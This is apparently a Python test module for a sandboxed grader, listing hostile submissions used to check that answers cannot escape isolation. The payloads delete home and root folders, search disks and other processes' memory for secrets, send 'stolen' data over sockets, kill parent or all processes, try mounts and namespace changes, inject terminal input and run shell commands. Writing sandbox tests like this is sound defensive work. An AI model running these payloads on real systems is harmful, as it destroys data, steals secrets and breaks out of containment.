"""Submissions that reach for what is not theirs: files, processes, the network, secrets."""

from __future__ import annotations

from hostile_kit import Attack, at_call, at_definition, in_answers

_DELETE = """
    outside()
    import shutil
    own = os.path.expanduser("~"), os.getcwd(), "/tmp"
    for path in (HOST_GRADEBOOK, HOST_HOME, HOST_ROOT, *own):
        shutil.rmtree(path, ignore_errors=True)
    os.system(f"rm -rf {HOST_ROOT} $HOME /tmp/* 2>/dev/null")
    programs = sys.executable, torch.__file__
    for path in (HOST_GRADEBOOK, HOST_TRACE, "/etc/passwd", "/usr/trace", *programs):
        try:
            with open(path, "a") as file:
                file.write("x")
        except OSError:
            continue
        if not path.startswith("/tmp"):
            reached(f"written to {path}")
"""

_SEARCH = """
    backwards = SECRET_BACKWARDS, HIDDEN_BACKWARDS, SOLUTION_BACKWARDS
    needles = [text[::-1].encode() for text in backwards]
    passed_over = ("proc", "sys", "site-packages", "usr", "lib", "node_modules", ".git")
    ends, seen = (".py", ".md", ".ipynb", ".json", ".db", ".txt", ".csv", ".html", ".toml"), set()
    own = os.path.expanduser("~"), os.getcwd()
    until = time.monotonic() + 2.5
    for top in (HOST_ROOT, HOST_REPOSITORY, *own, "/tmp", "/home", "/root", "/srv", "/var", "/"):
        for folder, folders, files in os.walk(top):
            folders[:] = [
                name for name in folders
                if name not in passed_over and os.path.join(folder, name) not in seen
            ]
            seen.add(folder)
            for name in files if time.monotonic() < until else ():
                if name.endswith(ends):
                    try:
                        with open(os.path.join(folder, name), "rb") as file:
                            text = file.read(5_000_000)
                    except OSError:
                        continue
                    if any(needle in text for needle in needles):
                        reached(os.path.join(folder, name))
"""

_PROCESSES = """
    needles = [text[::-1].encode() for text in (SECRET_BACKWARDS, HIDDEN_BACKWARDS)]
    own = str(os.getpid())
    for process in filter(str.isdigit, os.listdir("/proc") if os.path.isdir("/proc") else []):
        for name in ("environ", "cmdline", "maps", "cwd", "root", "fd"):
            path = f"/proc/{process}/{name}"
            try:
                if name in ("cwd", "root"):
                    text = "\\n".join(os.listdir(path)).encode()
                    if os.path.exists(path + HOST_ROOT):
                        reached(path + HOST_ROOT)
                elif name == "fd":
                    text = "\\n".join(os.readlink(f"{path}/{n}") for n in os.listdir(path)).encode()
                else:
                    with open(path, "rb") as file:
                        text = file.read()
            except OSError:
                continue
            if any(needle in text for needle in needles):
                reached(path)
            if name == "maps" and process != own:
                print("can list the memory of", process, len(text))
        try:
            if process != own:
                with open(f"/proc/{process}/mem", "r+b", buffering=0) as file, \\
                        open(f"/proc/{process}/maps") as maps:
                    for line in maps:
                        low, high = (int(part, 16) for part in line.split()[0].split("-"))
                        if "rw" in line:
                            file.seek(low)
                            if any(needle in file.read(high - low) for needle in needles):
                                reached(f"the memory of {process}")
        except (OSError, OverflowError, ValueError):
            pass
"""

# Once, and not for longer than a check may take.
_OWN_MEMORY = """
    import gc, re
    until = time.monotonic() + 2
    marker = re.compile(rb"BEGIN " rb"HIDDEN TESTS\\n[a-z#]")
    for thing in gc.get_objects() if "looked" not in globals() else ():
        if time.monotonic() > until:
            break
        try:
            parts = thing.values() if type(thing) is dict else thing
            for text in parts if type(thing) in (dict, list, tuple) else ():
                if type(text) is str and marker.search(text.encode("utf8", "replace")):
                    reached("the hidden tests among the objects of the interpreter")
        except RuntimeError:
            pass
    try:
        with open("/proc/self/mem", "rb", buffering=0) as file, open("/proc/self/maps") as maps:
            for line in maps:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" in line and high - low < 2**26 and time.monotonic() < until:
                    try:
                        file.seek(low)
                        if marker.search(file.read(high - low)):
                            reached("the hidden tests in the memory of the process")
                    except (OSError, OverflowError):
                        pass
    except OSError:
        pass
    globals()["looked"] = True
    frame = sys._getframe()
    while frame is not None:
        if "expected" in frame.f_locals or "expected" in frame.f_globals:
            reached("the expected value in a frame of the caller")
        for text in frame.f_locals.values():
            if type(text) is str and marker.search(text.encode("utf8", "replace")):
                reached("the hidden tests in a frame of the caller")
        frame = frame.f_back
"""

_NETWORK = """
    import socket
    here = [("127.0.0.1", HOST_PORT), ("localhost", HOST_PORT), ("0.0.0.0", HOST_PORT)]
    for address in here:
        try:
            with socket.create_connection(address, timeout=0.5) as connection:
                connection.sendall(b"stolen")
            reached(f"{address}")
        except OSError as error:
            print(error)
    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as connection:
            connection.settimeout(0.5)
            connection.connect(("::1", HOST_PORT))
        reached("::1")
    except OSError as error:
        print(error)
    for address in (HOST_ROOT + "/socket", "\\0" + HOST_ROOT):
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
                connection.settimeout(0.5)
                connection.connect(address)
            reached(f"the socket {address!r}")
        except OSError as error:
            print(error)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            connection.sendto(b"stolen", ("127.0.0.1", HOST_PORT))
            connection.sendto(b"stolen", ("198.51.100.1", 53))
            reached("a datagram to another host")
    except OSError as error:
        print(error)
    try:
        socket.getaddrinfo("example.org", 80)
        reached("the name service")
    except OSError as error:
        print(error)
"""

_KILL = """
    outside()
    import signal
    for process in (os.getppid(), 1, HOST_BYSTANDER):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                if process > 0:
                    os.kill(process, number)
            except OSError as error:
                print(process, error)
"""

_PRIVILEGES = """
    import ctypes, subprocess
    outside()
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/", None, 1 << 14 | 1 << 18, None) == 0:
        reached("mount")
    for flag, name in ((0x10000000, "user"), (0x00020000, "mount"), (0x40000000, "network")):
        if libc.unshare(flag) == 0:
            print("a new namespace:", name)
    if libc.mount(b"/proc", b"/tmp", b"proc", 0, None) == 0:
        print("mounted proc in a namespace of its own")
    for path in (
        *("/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"),
        *("/sys/power/state", "/sys/fs/cgroup/cgroup.procs", "/dev/mem", "/dev/sda", "/dev/kmsg"),
    ):
        try:
            with open(path, "r+b", buffering=0):
                reached(f"opened {path} for writing")
        except OSError:
            pass
    try:
        os.setpriority(os.PRIO_PROCESS, 0, -20)
        reached("a higher priority")
    except OSError:
        pass
    try:
        os.setuid(12345)
    except OSError:
        pass
    try:
        import fcntl, termios
        for number in (0, 1, 2):
            fcntl.ioctl(number, termios.TIOCSTI, b"x")
            reached("typed into the terminal")
    except OSError:
        pass
"""

REACH: dict[str, Attack] = {
    "deletes_and_overwrites": in_answers(at_definition(_DELETE), keeps=True, reason=""),
    "searches_the_disk": in_answers(at_definition(_SEARCH), keeps=True, reason=""),
    "searches_other_processes": in_answers(at_call(_PROCESSES), keeps=True, reason=""),
    "searches_its_own_memory": in_answers(at_call(_OWN_MEMORY), keeps=True, reason=""),
    "prints_the_environment": in_answers(
        at_definition("print(dict(os.environ))"), keeps=True, reason=""
    ),
    "opens_sockets": in_answers(at_definition(_NETWORK), keeps=True, reason=""),
    "kills_its_parents": in_answers(at_definition(_KILL), keeps=True, reason=""),
    "kills_everything": in_answers(
        at_definition("""
            outside()
            try:
                os.kill(-1, 9)
            except OSError as error:
                print(error)
        """),
        keeps=True,
        reason="",
    ),
    "kills_its_group": in_answers(
        at_call("outside()\nos.killpg(0, 9)"), keeps=False, reason="ended|died|process|stopped"
    ),
    "stops_itself": in_answers(at_call("os.kill(os.getpid(), 19)"), keeps=False, reason="second"),
    "stops_its_parent": in_answers(
        at_call("outside()\nos.kill(os.getppid() or os.getpid(), 19)"), keeps=True, reason=""
    ),
    "exits_without_a_word_at_definition": in_answers(
        at_definition("os._exit(0)"), keeps=False, reason="ended|exit|process"
    ),
    "exits_without_a_word_at_call": in_answers(
        at_call("os._exit(0)"), keeps=False, reason="ended|exit|process"
    ),
    "exits_politely": in_answers(at_call("sys.exit(0)"), keeps=False, reason="SystemExit|exit"),
    "crashes_the_interpreter": in_answers(
        at_call("import ctypes\nctypes.string_at(0)"), keeps=False, reason="ended|process"
    ),
    "asks_for_privileges": in_answers(at_definition(_PRIVILEGES), keeps=True, reason=""),
    "reads_the_keyboard": in_answers(
        at_call("print(input('password: '))"), keeps=False, reason="EOF|input|second"
    ),
    "runs_a_shell": in_answers(
        at_definition("""
            import subprocess
            outside()
            print(subprocess.run("id; touch $HOME/trace", shell=True, capture_output=True))
            with open("pip.conf", "w") as file:
                file.write("x")
        """),
        keeps=True,
        reason="",
    ),
    "magics_and_shell_commands": in_answers(
        lambda host: {
            "value_from_logits": f"!touch {host.trace}\n%env\n%%bash\ntouch {host.trace}"
        },
        keeps=False,
        reason="not defined",
        extra=lambda host: {
            "setup": f"get_ipython().system('touch {host.trace}')",
            "check_value_from_logits": f"%%bash\ntouch {host.trace}",
        },
    ),
}
